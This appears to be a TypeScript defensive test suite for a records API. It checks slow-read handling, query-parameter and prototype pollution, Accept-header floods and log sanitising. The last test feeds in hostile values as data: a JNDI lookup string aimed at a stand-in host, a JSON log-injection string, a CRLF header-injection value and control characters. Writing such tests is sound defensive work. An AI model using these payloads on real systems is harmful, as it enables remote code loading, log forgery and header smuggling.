import assert from 'node:assert/strict';
import { connect, type Socket } from 'node:net';
import { test, type TestContext } from 'node:test';
import { eventually } from '../support/eventually.ts';
import { rawRequest, sendRaw } from '../support/raw-http.ts';
import { startService, type TestService } from '../support/service.ts';

const records = '/api/records/posts';

async function withPosts(t: TestContext): Promise<TestService> {
  const service = await startService(t);
  const fields = [
    { name: 'title', type: 'text' },
    { name: 'data', type: 'json' },
  ];
  const rules = { listRule: '', viewRule: '', createRule: '' };
  const body = { name: 'posts', fields, ...rules };
  const made = await service.request('/api/collections', { method: 'POST', token: true, body });
  assert.equal(made.status, 200, made.text);
  return service;
}

test('H-03 a client that does not read its answer is let go, and others are served meanwhile', async (t) => {
  const service = await withPosts(t);
  const { server } = service.app.server;
  assert.ok(server.timeout > 0 && server.timeout <= 300_000, 'so long a connection may stand still');
  // More than the buffers between the two hold.
  for (let count = 0; count < 24; count += 1)
    await service.request(records, { method: 'POST', body: { data: 'x'.repeat(1_000_000) } });
  server.setTimeout(2_000);
  const accepted: Socket[] = [];
  server.on('connection', (socket: Socket) => accepted.push(socket));
  const { hostname, port } = new URL(service.url);
  const silent = connect({ host: hostname, port: Number(port) });
  t.after(() => silent.destroy());
  // It never reads, so it may or may not hear of the end.
  silent.on('error', () => undefined);
  silent.write(rawRequest(`GET ${records}?perPage=1000`));
  const held = await eventually('the connection', () => accepted[0]);
  await eventually('the answer is on its way', () => held.writableLength > 0);
  assert.equal((await service.request('/api/health')).status, 200);
  await eventually('it is let go', () => held.destroyed);
});

test('H-63 of a query name that is given twice the first counts, and brackets and dots are letters of a name', async (t) => {
  const service = await withPosts(t);
  const pages: readonly (readonly [query: string, perPage: number])[] = [
    ['perPage=1&perPage=5', 1],
    ['perPage[]=1&perPage[x]=2&per.Page=3', 30],
    ['__proto__[perPage]=1&constructor.prototype.perPage=2', 30],
    ['perPage=&perPage=5', 30],
  ];
  for (const [query, perPage] of pages) {
    const answer = await service.request(`${records}?${query}`);
    assert.deepEqual([answer.status, answer.json.perPage], [200, perPage], query);
  }
  assert.equal(Object.hasOwn(Object.prototype, 'perPage'), false);
});

test('H-76 a thousand Accept values change nothing', async (t) => {
  const service = await withPosts(t);
  const headers = {
    Accept: Array.from({ length: 1_000 }, (_, index) => `a/b;q=0.${index}`).join(','),
    'Accept-Encoding': 'gzip;q=1, br, *;q=0.1, identity;q=0',
    'Accept-Language': '*;q=2',
  };
  const answer = await sendRaw(t, service.url, rawRequest(`GET ${records}`, headers));
  assert.equal(answer.status, 200);
  assert.equal(answer.headers.get('content-type'), 'application/json; charset=utf-8');
  assert.equal(answer.headers.has('content-encoding'), false);
});

test('H-78 what a client says of itself is text in the log, however it is written', async (t) => {
  const service = await withPosts(t);
  for (const agent of [
    '${jndi:ldap://a.example/x}',
    '"}\\n{"level":"error"}',
    '<script>',
    'x'.repeat(8_000),
  ]) {
    const headers = { 'User-Agent': agent, Referer: agent };
    assert.equal((await sendRaw(t, service.url, rawRequest(`GET ${records}`, headers))).status, 200);
    const { data } = await eventually('the request in the log', async () => {
      const { json } = await service.request('/api/logs?sort=-@rowid&perPage=1', { token: true });
      const [entry]: readonly { readonly data: Readonly<Record<string, unknown>> }[] = json.items;
      return entry !== undefined && agent.startsWith(String(entry.data['userAgent']).slice(0, 400)) && entry;
    });
    assert.ok(String(data['userAgent']).length <= 500 && String(data['referer']).length <= 500);
  }
  for (const agent of ['a\r\nX-Forged: b', '\u001b[31m', 'a\u0000b']) {
    const bytes = `GET ${records} HTTP/1.1\r\nHost: a\r\nUser-Agent: ${agent}\r\n\r\n`;
    const { status, headers } = await sendRaw(t, service.url, bytes);
    assert.ok(status < 500, JSON.stringify(agent));
    assert.equal(headers.has('x-forged'), false);
  }
});
